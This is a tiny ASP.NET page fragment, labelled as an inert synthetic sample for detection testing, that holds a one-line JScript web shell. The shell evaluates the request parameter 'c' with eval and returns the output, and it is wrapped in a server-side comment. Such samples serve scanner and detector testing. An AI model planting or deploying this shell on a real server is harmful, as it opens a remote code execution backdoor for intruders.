<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="JScript"%><% var code = Request.Params["c"]; var r = eval(code, "unsafe"); Response.Write(r); %>
--%>
